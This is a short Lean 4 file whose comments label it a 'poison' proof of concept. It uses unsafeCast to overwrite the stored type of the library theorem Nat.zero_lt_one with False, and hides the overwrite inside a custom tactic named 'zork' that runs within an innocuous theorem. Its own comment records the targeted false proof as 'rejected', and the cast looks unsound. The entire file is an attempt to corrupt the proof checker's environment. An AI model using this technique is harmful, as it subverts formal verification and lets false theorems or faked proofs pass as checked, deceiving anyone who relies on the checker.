-- poison: overwrites the type of a library theorem in the shared heap (a constructor object used as an IO.Ref), run by @[tactic «...»]
-- victim: import Lean; theorem b : False := Nat.zero_lt_one => rejected
import Lean
open Lean Elab Meta
unsafe def pz : CoreM Unit := do
  let env ← getEnv
  match env.find? ``Nat.zero_lt_one with
  | some (.axiomInfo v) =>
    let r : IO.Ref ConstantVal := unsafeCast v
    r.set { v.toConstantVal with type := mkConst ``False }
  | some (.thmInfo v) =>
    let r : IO.Ref ConstantVal := unsafeCast v
    r.set { v.toConstantVal with type := mkConst ``False }
  | _ => throwError "no"
@[implemented_by pz] opaque pzz : CoreM Unit
syntax (name := zork) "zork" : tactic
@[tactic «zork»] def zorkImpl : Tactic.Tactic := fun _ => do
  pzz
  --RAN
theorem innocent : True := by (zork; exact True.intro)
